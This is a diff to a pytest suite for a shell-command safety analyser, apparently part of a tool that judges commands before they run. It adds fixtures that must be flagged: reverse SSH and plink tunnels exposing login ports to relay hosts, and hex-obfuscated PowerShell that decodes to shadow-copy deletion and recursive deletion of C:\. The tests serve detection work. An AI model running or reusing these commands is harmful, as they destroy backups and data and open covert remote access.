@@ -192,6 +192,29 @@ def test_other_attack_steps_are_critical(command: str, shell: str, rule: str) ->
 
 
 @pytest.mark.parametrize(
+    "command,shell",
+    [
+        ("ssh -fN -R 2222:localhost:22 relay@198.51.100.20", "bash"),
+        ("plink -R 4444:127.0.0.1:3389 -l u -pw p 203.0.113.7", "cmd"),
+    ],
+)
+def test_reverse_tunnels_to_login_ports_are_the_remote_judges(
+    command: str, shell: str, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    # `remote.reverse_tunnel` (one login-port set) is the rule: without it nothing else fires
+    from aintern_ls.safety import analyser, remote
+
+    assert "remote-access" in {f.rule for f in assess(command, shell).findings}
+    monkeypatch.setattr(remote, "reverse_tunnel", lambda cmd, name, low: None)
+    analyser.cache_clear()
+    try:
+        assert "remote-access" not in {f.rule for f in assess(command, shell).findings}
+    finally:
+        monkeypatch.undo()
+        analyser.cache_clear()
+
+
+@pytest.mark.parametrize(
     "command",
     [
         "ssh -N -R 8080:localhost:3000 dev@tunnel.example",
@@ -302,29 +325,48 @@ def test_every_fires_row_holds_a_fragment_of_its_rule() -> None:
     assert ok[0].expected == "blocked" and ok[0].fires
 
 
+# `vssadmin delete shadows /all /quiet` as UTF-16LE hex (what `-split '(..)'` + ToByte decodes)
+_WIDE_HEX = "vssadmin delete shadows /all /quiet".encode("utf-16-le").hex()
+
+
 @pytest.mark.parametrize(
-    "command,level",
+    "command,rule",
     [
         # the DarkSide idiom: a hex literal decoded two digits at a time, then Invoke-Expression
         (
             "$a='76737361646d696e2064656c65746520736861646f7773202f616c6c202f7175696574';$b='';"
             "for($i=0;$i -lt $a.Length;$i+=2){$b+=[char][byte]('0x'+$a.Substring($i,2))};iex $b",
-            B,
+            "delete-backups",
         ),
         (
             "$h='52656d6f76652d4974656d202d52656375727365202d466f72636520433a5c'; $s='';"
             " 0..($h.Length/2-1) | % { $s += [char][byte]('0x' + $h.Substring(2*$_,2)) }; iex $s",
-            B,
+            "rm-root",
         ),
         (
-            "iex (-join ('7600730073006100640006d00690006e00' -split '(..)' -ne '' |"
+            f"iex (-join ('{_WIDE_HEX}' -split '(..)' -ne '' |"
             " % { [char][convert]::ToByte($_,16) }))",
-            C,
+            "delete-backups",
         ),
     ],
 )
-def test_hex_decoded_powershell_is_judged_as_decoded(command: str, level: RiskLevel) -> None:
-    assert _level(command, "powershell") == level, command
+def test_hex_decoded_powershell_is_judged_as_decoded(
+    command: str, rule: str, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    # blocked, for what the decoded text does (not only the dynamic `iex`, which is critical)
+    got = assess(command, "powershell")
+    assert got.level == B and rule in {f.rule for f in got.findings}, command
+    # and it is the hex decoder that sees it: without it only the opaque `iex` is left
+    from aintern_ls.safety import analyser, detections
+
+    monkeypatch.setattr(detections, "_hex_payload", lambda cmd: None)
+    analyser.cache_clear()
+    try:
+        without = assess(command, "powershell")
+        assert without.level == C and rule not in {f.rule for f in without.findings}, command
+    finally:
+        monkeypatch.undo()
+        analyser.cache_clear()
 
 
 def test_hex_decoded_and_only_printed_stays_low() -> None:
